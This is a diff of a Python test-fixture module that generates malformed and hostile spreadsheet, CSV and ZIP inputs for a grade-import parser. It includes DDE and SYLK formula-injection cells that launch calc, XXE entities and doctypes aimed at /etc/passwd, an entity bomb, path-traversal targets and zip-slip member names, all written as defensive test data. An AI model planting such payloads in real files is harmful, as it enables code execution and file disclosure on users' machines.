+    *("../../../etc/passwd", "{0.__class__}{value}%s"),
+)
 # One of these makes codes of all numbers.
-CODES_OF_TOOLS = {"level-6": "6", "level-0": "0", "negative": "-4", "superscript": "4⁴"}
-HEADINGS = {
-    "html": HTML,
-    "formula": DDE,
-    "name-of-a-person": PERSON,
-    "proto": "__proto__",
-    "path": "../../evil",
-    "right-to-left": f"{RIGHT_TO_LEFT}1.1",
-    "very-long": "Läge och resurser, " * 50,
-    "many-brackets": "[" * 900,
-    "letter-that-grows": "\ufdfa" * 900,
-}
+CODES_OF_TOOLS = ("6", "0", "-4", "4⁴")
+HEADINGS = (
+    *(HTML, DDE, PERSON, "__proto__", "../../evil", f"{RIGHT_TO_LEFT}1.1", "[" * 900),
+    *("Läge och resurser, " * 50, "\ufdfa" * 900),
+)
 
 
 EXPORT = table(person(), person(level=2))
 HEAD, ROW, _ = EXPORT.splitlines(keepends=True)
 WORDS = remarked("PÅ", *["2 – påbörjat"] * len(IDS))
+# Of which nothing counts, some, and all.
 TABLES = {
-    "damaged-code-alone": f"Kod\r\n{UNWRITTEN}\r\n",
-    "header-alone": HEAD,
-    "statement-alone": "1.1",
-    "empty": "",
-    "blank": " \r\n;;;\r\n" * 50,
-    "no-statements": table(["Anna", "4"], header=["Namn", "Betyg"]),
-    "header-below-the-first-twenty-rows": "titel\r\n" * 25 + EXPORT,
-    "quote-never-closed": HEAD + '"Anna' + EXPORT,
-    "quote-in-the-header": f'"{EXPORT}',
-    "quote-closed-too-early": HEAD + '"An"na;4;4\r\n' + ROW,
-    "quotes-9000": '"' * 9001,
-    "delimiters-9000": ";,\t" * 3000 + "x",
-    "too-many-columns": ";" * 600 + "4",
-    "too-many-rows": "1.1\r\n" + "4\n" * 10_500,
-    "remark-in-a-far-off-column": HEAD + ";" * 600 + "x\r\n",
-    "delimiter-said-and-another-used": "sep=,\r\n" + EXPORT,
-    "delimiter-said-alone": "sep=;\r\n",
-    "html-page": f"<html><table><tr><td>1.1</td></tr><tr><td>{HTML}4</td></tr></table></html>",
-    "xml-spreadsheet-of-2003": '<?xml version="1.0"?><Workbook><Worksheet/></Workbook>',
-    "json": to_json(rated("h0st2")),
-    "rich-text": "{\\rtf1\\ansi 4}",
-    "symbolic-link-file": 'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("CALC.EXE")\r\nE\r\n',
-    "data-interchange-file": 'TABLE\r\n0,1\r\n"EXCEL"\r\nDATA\r\n0,0\r\n""\r\n',
-    "markdown-table": "| 1.1 | 1.2 |\n|---|---|\n| 4 | 2 |\n",
-    "escape-codes": "\x1b[2J\x1b[31m;\x07\r\n",
-    "nuls-alone": bytes(3000),
-    "valid-encoding-utf-16-unmarked": EXPORT.encode("utf-16-le"),
-    "encoding-utf-32": codecs.BOM_UTF32_BE + EXPORT.encode("utf-32-be"),
-    "encoding-ebcdic": EXPORT.encode("cp500"),
-    "every-byte": bytes(range(1, 256)) * 4,
-    "gzip": gzip.compress(random.Random(4).randbytes(600), mtime=0),
-    "mixed-headers-twice": table([*person(), "1", "1"], header=[*HEADER, "1.1", "breadth-1"]),
-    "mixed-role-html": table(person(role=HTML)),
-    "mixed-role-name-of-a-person": table(person(role=PERSON)),
-    "mixed-round-html": table(person(), person(when=SCRIPT)),
-    "mixed-round-huge": table(person(), person(when="9" * 5000)),
-    "valid-person-without-an-answer": table(person(), ["Åsa", *[""] * (len(HEADER) - 1)]),
-    "mixed-damaged-code": f"Kod\r\n{CODE}\r\n{UNWRITTEN}\r\n",
-    "mixed-row-torn": EXPORT[: len(HEAD) + len(ROW) + 20].replace("2;2", "bra;2"),
-    "valid-cell-half-a-quote": table(person('4"')),
-    "valid-cell-right-to-left": table(person(f"{RIGHT_TO_LEFT}4")),
-    "valid-delimiter-said": "sep=;\r\n" + EXPORT,
-    "valid-tabs": table(person(), delimiter="\t"),
-    "valid-old-line-endings": EXPORT.replace("\r\n", "\r"),
-    "valid-remark-long": remarked("x" * 18_000),
-    "valid-remark-of-everything": remarked("".join([*FORMULAS.values(), *CELLS.values()])),
-    "valid-blank-rows-between": table(person(), *[[]] * 900, person(level=2)),
-    "valid-columns-blank-to-the-right": EXPORT.replace("\r\n", ";" * 900 + "\r\n"),
-    "valid-byte-order-mark": f"\ufeff{EXPORT}",
-    "valid-codes-among-html": f"Kod\r\n{HTML}{CODE}\r\n",
-    "valid-nul-in-a-remark": remarked("P\0"),
-    "valid-encoding-utf-16": codecs.BOM_UTF16_LE + EXPORT.encode("utf-16-le"),
-    "valid-encoding-of-windows": WORDS.encode("cp1252"),
-    "valid-encodings-mixed": WORDS.encode().replace("PÅ".encode(), b"P\xc5"),
-    "valid-half-a-character": WORDS.encode().replace("PÅ".encode(), b"\xed\xa0\x80"),
-    "valid-byte-order-mark-and-spoilt-letter": codecs.BOM_UTF8 + b"breadth-1;x\r\n4;\xc5\r\n",
-    "valid-overlong": WORDS.encode().replace("PÅ".encode(), b"\xc0\xaf"),
+    "table": (
+        *(f"Kod\r\n{UNWRITTEN}\r\n", HEAD, "1.1", "", " \r\n;;;\r\n" * 50),
+        table(["Anna", "4"], header=["Namn", "Betyg"]),
+        # A header too far down, quotations, delimiters, and too much of all.
+        *("titel\r\n" * 25 + EXPORT, HEAD + '"Anna' + EXPORT, f'"{EXPORT}', '"' * 9001),
+        *(HEAD + '"An"na;4;4\r\n' + ROW, ";,\t" * 3000 + "x", "sep=,\r\n" + EXPORT, "sep=;\r\n"),
+        *(";" * 600 + "4", "1.1\r\n" + "4\n" * 10_500, HEAD + ";" * 600 + "x\r\n"),
+        # Tables of other kinds, and none.
+        f"<html><table><tr><td>1.1</td></tr><tr><td>{HTML}4</td></tr></table></html>",
+        '<?xml version="1.0"?><Workbook><Worksheet/></Workbook>',
+        *(to_json(rated("h0st2")), "{\\rtf1\\ansi 4}", "| 1.1 | 1.2 |\n|---|---|\n| 4 | 2 |\n"),
+        'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("CALC.EXE")\r\nE\r\n',
+        'TABLE\r\n0,1\r\n"EXCEL"\r\nDATA\r\n0,0\r\n""\r\n',
+        *(
+            "\x1b[2J\x1b[31m;\x07\r\n",
+            bytes(3000),
+            bytes(range(1, 256)) * 4,
+            EXPORT.encode("cp500"),
+        ),
+        codecs.BOM_UTF32_BE + EXPORT.encode("utf-32-be"),
+        gzip.compress(random.Random(4).randbytes(600), mtime=0),
+    ),
+    "mixed-table": (
+        table([*person(), "1", "1"], header=[*HEADER, "1.1", "breadth-1"]),
+        *(table(person(role=HTML)), table(person(role=PERSON))),
+        *(table(person(), person(when=SCRIPT)), table(person(), person(when="9" * 5000))),
+        f"Kod\r\n{CODE}\r\n{UNWRITTEN}\r\n",
+        EXPORT[: len(HEAD) + len(ROW) + 20].replace("2;2", "bra;2"),
+    ),
+    "valid-table": (
+        table(person(), ["Åsa", *[""] * (len(HEADER) - 1)]),
+        *(table(person('4"')), table(person(f"{RIGHT_TO_LEFT}4")), table(person(), delimiter="\t")),
+        *("sep=;\r\n" + EXPORT, EXPORT.replace("\r\n", "\r"), f"\ufeff{EXPORT}"),
+        *(remarked("x" * 18_000), remarked("".join([*FORMULAS, *CELLS])), remarked("P\0")),
+        table(person(), *[[]] * 900, person(level=2)),
+        *(EXPORT.replace("\r\n", ";" * 900 + "\r\n"), f"Kod\r\n{HTML}{CODE}\r\n"),
+        # In other encodings, and in two or none.
+        *(EXPORT.encode("utf-16-le"), codecs.BOM_UTF16_LE + EXPORT.encode("utf-16-le")),
+        WORDS.encode().replace("PÅ".encode(), b"P\xc5"),
+        WORDS.encode().replace("PÅ".encode(), b"\xed\xa0\x80"),
+        codecs.BOM_UTF8 + b"breadth-1;x\r\n4;\xc5\r\n",
+        WORDS.encode().replace("PÅ".encode(), b"\xc0\xaf"),
+    ),
 }
 NO_TABLES = {
     "picture.png": PICTURE,
@@ -857,59 +639,34 @@ def with_cell(cell):
     return book(row(inline("Anna"), inline("student"), inline("1"), cell, *[number(4)] * 5))
 
 
-MIXED_CELLS = {
-    "formula": "<c><f>1+3</f></c>",
-    "formula-dde": "<c><f>cmd|' /C calc'!A0</f></c>",
-    "formula-of-an-array": '<c><f t="array" ref="A1:XFD1048576">1+3</f></c>',
-    "formula-as-text": inline(DDE),
-    "html": inline(HTML),
-    "script-in-cdata": f"<c t='str'><v><![CDATA[{SCRIPT}]]></v></c>",
-    "truth": '<c t="b"><v>1</v></c>',
-    "error": '<c t="e"><v>#REF!</v></c>',
-    "infinity": number("1e400"),
-    "half": number(3.5),
-    "lines": inline("4\n5"),
-    "escaped-controls": inline("_x0000__x202E_4_x001B_[31m_x000D_"),
-    "escaped-half-a-character": inline("_xD83D_4"),
-    "of-an-unknown-kind": '<c t="evil"><v>x</v></c>',
-    "very-long": inline("4" * 10_000),
-}
-BROKEN_CELLS = {
-    "text-where-a-number-is": number("four"),
-    "number-with-a-script": number("4&lt;script&gt;"),
-    "shared-text-that-is-not-there": '<c t="s"><v>7</v></c>',
-    "shared-text-far-off": f'<c t="s"><v>{"9" * 4000}</v></c>',
-    "shared-text-of-html": f'<c t="s"><v>{escape(HTML)}</v></c>',
-    "far-off": '<c r="XFD1048576"><v>4</v></c>',
-    "in-column-501": '<c r="SG2"><v>4</v></c>',
-    "in-row-10001": '<c r="D10001"><v>4</v></c>',
-    "of-no-name": '<c r=""><v>4</v></c>',
-    "of-a-name-in-lower-case": '<c r="d2"><v>4</v></c>',
-    "of-a-name-like-a-path": '<c r="../../evil"><v>4</v></c>',
-    "in-row-0": '<c r="D0"><v>4</v></c>',
-    "negative": number(-4),
-    "in-a-cell": "<c><c><v>5</v></c><v>44</v></c>",
-    "in-a-row-without-end": f'<c r="D{"9" * 4000}"><v>4</v></c>',
-}
-HARMLESS_CELLS = {
-    "cdata": "<c><v><![CDATA[4]]></v></c>",
-    "nan": number("NaN"),
-    "comment-within": "<c><v><!-- 5 -->4</v></c>",
-    "instruction-within": "<c><v><?php system('calc')?>4</v></c>",
-    "shared-text": '<c t="s"><v>0</v></c>',
-    "right-to-left": inline(f"{RIGHT_TO_LEFT}4"),
-    "style-that-is-not-there": '<c s="99999"><v>4</v></c>',
-    "unknown-elements": "<c><evil><worse/></evil><v>4</v></c>",
-    "attributes-200": "<c " + " ".join(f'a{n}="{n}"' for n in range(200)) + "><v>4</v></c>",
-}
-
-
-XML_CELLS = {
-    "half-a-character": number("&#xD800;"),
-    "nul-by-number": number("&#0;4"),
-    "control-character": number("\1" + "4"),
-    "attribute-twice": '<c t="n" t="s"><v>0</v></c>',
-}
+MIXED_CELLS = (
+    *("<c><f>1+3</f></c>", "<c><f>cmd|' /C calc'!A0</f></c>", inline(DDE), inline(HTML)),
+    *('<c><f t="array" ref="A1:XFD1048576">1+3</f></c>', '<c t="e"><v>#REF!</v></c>'),
+    *('<c t="b"><v>1</v></c>', '<c t="evil"><v>x</v></c>', number("1e400"), number(3.5)),
+    *(f"<c t='str'><v><![CDATA[{SCRIPT}]]></v></c>", inline("4" * 10_000), inline("4\n5")),
+    *(inline("_x0000__x202E_4_x001B_[31m_x000D_"), inline("_xD83D_4")),
+)
+BROKEN_CELLS = (
+    *(number("four"), number("4&lt;script&gt;"), number(-4), "<c><c><v>5</v></c><v>44</v></c>"),
+    # Shared texts that are not there, and places where no cell can be.
+    *('<c t="s"><v>7</v></c>', f'<c t="s"><v>{"9" * 4000}</v></c>'),
+    f'<c t="s"><v>{escape(HTML)}</v></c>',
+    *(
+        f'<c r="{place}"><v>4</v></c>'
+        for place in ("XFD1048576", "SG2", "D10001", "", "d2", "../../evil", "D0", "D" + "9" * 4000)
+    ),
+)
+HARMLESS_CELLS = (
+    *("<c><v><![CDATA[4]]></v></c>", number("NaN"), "<c><v><!-- 5 -->4</v></c>"),
+    *("<c><v><?php system('calc')?>4</v></c>", '<c t="s"><v>0</v></c>'),
+    *(inline(f"{RIGHT_TO_LEFT}4"), '<c s="99999"><v>4</v></c>'),
+    "<c><evil><worse/></evil><v>4</v></c>",
+    "<c " + " ".join(f'a{n}="{n}"' for n in range(200)) + "><v>4</v></c>",
+)
+XML_CELLS = (
+    *(number("&#xD800;"), number("&#0;4"), number("\1" + "4")),
+    '<c t="n" t="s"><v>0</v></c>',
+)
 
 # Below the header.
 ODD_ROWS = {
@@ -945,75 +702,51 @@ ENTITIES = {
 }
 FOUR = with_cell('<c t="str"><v>&four;</v></c>')[PARTS["worksheet"]]
 
-# What a part is instead.
+# What a part is instead: what cannot be read, and what can.
 ODD_PARTS = {
-    "worksheet": {
-        "cell-outside-of-every-row": f"<a>{number(4)}</a>",
-        "empty-worksheet": "<worksheet/>",
-        "xml-doctype-outside": f'<!DOCTYPE x SYSTEM "/etc/passwd">{SHEET}',
-        "xml-doctype-of-html": f"<!DOCTYPE html>{SHEET}",
-        "xml-two-roots": SHEET * 2,
-        "xml-unclosed": SHEET[:-5],
-        "xml-encoding-that-nobody-knows": f'<?xml version="1.0" encoding="evil-8"?>{SHEET}',
-        "xml-encoding-that-lies": f'<?xml version="1.0" encoding="UTF-16"?>{SHEET}',
-        "xml-encoding-broken": SHEET.encode().replace(b"Namn", b"N\xffmn"),
-        "xml-html-instead": f"<html>{HTML}</html>",
-        "valid-stylesheet": f'<?xml-stylesheet href="http://127.0.0.1:9/e"?>{SHEET}',
-        "valid-schema-elsewhere": SHEET.replace(" xmlns", ' xsi="http://127.0.0.1:9/e.xsd" xmlns'),
-        "valid-a-million-rows-declared": SHEET.replace(
-            "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'
-        ),
-        "valid-cells-merged-from-end-to-end": SHEET.replace(
-            "</w", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></w'
-        ),
-        "valid-encoding-utf-16": codecs.BOM_UTF16_LE + SHEET.encode("utf-16-le"),
-        "valid-byte-order-mark": codecs.BOM_UTF8 + SHEET.encode(),
-    },
-    "workbook": {
-        "no-worksheets": "<workbook><sheets/></workbook>",
-        "text-document": "<document><body/></document>",
-        "target-that-nobody-has": BOOK.replace("sheet1", "sheet7"),
-        "valid-worksheet-listed-200-times": BOOK.replace(
-            "<sheet ", '<sheet r:id="worksheet1"/>' * 200 + "<sheet "
-        ),
-    },
-    "pointers": {
-        "target-in-the-world": POINTERS.replace(
-            'Target="work', 'TargetMode="External" Target="work'
-        ),
-        "target-twice": POINTERS.replace(
-            "</R", '<Relationship Id="worksheet1" Type="x" Target="y"/></R'
-        ),
-        "chart-alone": POINTERS.replace('/worksheet"', '/chartsheet"'),
-        "xml-entity-in-relations": ENTITIES["entity-of-a-file"] + POINTERS,
-    },
-    "texts": {
-        "xml-entity-in-shared-texts": ENTITIES["entity-bomb"] + "<sst><si><t>&four;</t></si></sst>",
-    },
-    "styles": {
-        "style-number-of-html": f"<a><cellXfs><xf numFmtId={quoteattr(HTML)}/></cellXfs></a>",
-        "style-format-missing": '<a><numFmt numFmtId="164"/></a>',
-        "valid-style-format-that-goes-on": f'<numFmt numFmtId="1" formatCode="{"[" * 9000}"/>',
-    },
-    "types": {
-        "valid-content-types-of-something-else": "<Default ContentType='text/html'/>",
-        "valid-content-types-nonsense": b"\0\xff",
-    },
+    "worksheet": (
+        *(f"<a>{number(4)}</a>", "<worksheet/>", f'<!DOCTYPE x SYSTEM "/etc/passwd">{SHEET}'),
+        *(f"<!DOCTYPE html>{SHEET}", SHEET * 2, SHEET[:-5], f"<html>{HTML}</html>"),
+        f'<?xml version="1.0" encoding="evil-8"?>{SHEET}',
+        f'<?xml version="1.0" encoding="UTF-16"?>{SHEET}',
+        SHEET.encode().replace(b"Namn", b"N\xffmn"),
+    ),
+    "workbook": (
+        *("<workbook><sheets/></workbook>", "<document><body/></document>"),
+        BOOK.replace("sheet1", "sheet7"),
+    ),
+    "pointers": (
+        POINTERS.replace('Target="work', 'TargetMode="External" Target="work'),
+        POINTERS.replace("</R", '<Relationship Id="worksheet1" Type="x" Target="y"/></R'),
+        POINTERS.replace('/worksheet"', '/chartsheet"'),
+        ENTITIES["entity-of-a-file"] + POINTERS,
+    ),
+    "texts": (ENTITIES["entity-bomb"] + "<sst><si><t>&four;</t></si></sst>",),
+    "styles": (
+        f"<a><cellXfs><xf numFmtId={quoteattr(HTML)}/></cellXfs></a>",
+        '<a><numFmt numFmtId="164"/></a>',
+    ),
+}
+FINE_PARTS = {
+    "worksheet": (
+        f'<?xml-stylesheet href="http://127.0.0.1:9/e"?>{SHEET}',
+        SHEET.replace(" xmlns", ' xsi="http://127.0.0.1:9/e.xsd" xmlns'),
+        SHEET.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'),
+        SHEET.replace("</w", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></w'),
+        codecs.BOM_UTF16_LE + SHEET.encode("utf-16-le"),
+        codecs.BOM_UTF8 + SHEET.encode(),
+    ),
+    "workbook": (BOOK.replace("<sheet ", '<sheet r:id="worksheet1"/>' * 200 + "<sheet "),),
+    "styles": (f'<numFmt numFmtId="1" formatCode="{"[" * 9000}"/>',),
+    "types": ("<Default ContentType='text/html'/>", b"\0\xff"),
 }
 
 # To where the pointer to a worksheet should not lead.
-TARGETS = {
-    "up": "../../../../../../etc/passwd",
-    "absolute": "/etc/passwd",
-    "of-windows": "C:\\windows\\win.ini",
-    "of-a-page": "http://127.0.0.1:9/evil.xml",
-    "of-a-file": "file:///etc/passwd",
-    "itself": "workbook.xml",
-    "its-pointers": "_rels/workbook.xml.rels",
-    "empty": "",
-    "with-nul": "worksheets/sheet1.xml%00.png",
-    "very-long": "a/" * 4000,
-}
+TARGETS = (
+    *("../../../../../../etc/passwd", "/etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd"),
+    *("http://127.0.0.1:9/evil.xml", "workbook.xml", "_rels/workbook.xml.rels", "", "a/" * 4000),
+    "worksheets/sheet1.xml%00.png",
+)
 NEEDED = ("relations", "workbook", "pointers", "texts", "worksheet")
 
 # Of which the kit reads nothing.
@@ -1030,21 +763,24 @@ MORE_PARTS = {
 def workbooks():
     """Return workbooks whose XML is broken, or means harm."""
     made = {
-        **each("mixed-cell", MIXED_CELLS, with_cell),
-        **each("cell", BROKEN_CELLS, with_cell),
-        **each("valid-cell", HARMLESS_CELLS, with_cell),
-        **each("xml", XML_CELLS, with_cell),
+        **numbered("mixed-cell", MIXED_CELLS, with_cell),
+        **numbered("cell", BROKEN_CELLS, with_cell),
+        **numbered("valid-cell", HARMLESS_CELLS, with_cell),
+        **numbered("xml", XML_CELLS, with_cell),
         **each("xml", ENTITIES, lambda one: book(worksheet=one + FOUR)),
         **{name: book(rows) for name, rows in ODD_ROWS.items()},
         **{
-            name: book(**{part: one})
-            for part, odd in ODD_PARTS.items()
-            for name, one in odd.items()
+            f"{start}{part}-{at:02}": book(**{part: one})
+            for start, odd in (("", ODD_PARTS), ("valid-", FINE_PARTS))
+            for part, cases in odd.items()
+            for at, one in enumerate(cases)
         },
-        **{f"part-{part}-missing": book(**{part: None}) for part in NEEDED},
-        **{f"part-{part}-empty": book(**{part: ""}) for part in NEEDED},
-        **{f"part-{part}-is-a-picture": book(**{part: PICTURE}) for part in NEEDED},
-        **each("target", TARGETS, leading_to),
+        **{
+            f"part-{part}-{what}": book(**{part: instead})
+            for what, instead in {"missing": None, "empty": "", "is-a-picture": PICTURE}.items()
+            for part in NEEDED
+        },
+        **numbered("target", TARGETS, leading_to),
         **each("valid", MORE_PARTS, lambda more: book() | more),
     }
     return {name: zipped(parts) for name, parts in made.items()}
@@ -1118,27 +854,21 @@ def archives():
 
 
 # Put over others of the same length: zipfile changes some of them.
-NAMES = {
-    "up": "../../../evil.csv",
-    "absolute": "/tmp/evilxx.csv",
-    "of-windows": "C:\\evil\\ab.csv",
-    "backslashes": "..\\..\\ev\\a.csv",
-    "nul": "ev\0l\0\0\0\0\0\0\0\0.csv",
-    "line-break": "evil\n\n\n\n\n\n\n.csv",
-    "html": "<img src=x>abc.csv",
-    "device": "CON...........csv",
-    "of-python": "__init__.py\0abcd",
-}
+NAMES = (
+    *("../../../evil.csv", "/tmp/evilxx.csv", "C:\\evil\\ab.csv", "..\\..\\ev\\a.csv"),
+    *("ev\0l\0\0\0\0\0\0\0\0.csv", "evil\n\n\n\n\n\n\n.csv", "<img src=x>abc.csv"),
+    *("CON...........csv", "__init__.py\0abcd"),
+)
 
 
 def members_with_names():
     """Return archives whose members have harmful names."""
     made = {}
-    for said_of, name in NAMES.items():
+    for at, name in enumerate(NAMES):
         held = "x" * (len(name) - 4) + ".csv"
         alone = zipped({held: table(person())})
         beside = zipped(book() | {held: b"evil"})
-        kind = "" if "\0" in name else "valid-"
-        made[f"{kind}member-{said_of}.zip"] = alone.replace(held.encode(), name.encode())
-        made[f"valid-member-{said_of}.xlsx"] = beside.replace(held.encode(), name.encode())
+        kind, end = "" if "\0" in name else "valid-", f"member-{at}{beginning(name)}"
+        made[f"{kind}{end}.zip"] = alone.replace(held.encode(), name.encode())
+        made[f"valid-{end}.xlsx"] = beside.replace(held.encode(), name.encode())
     return made
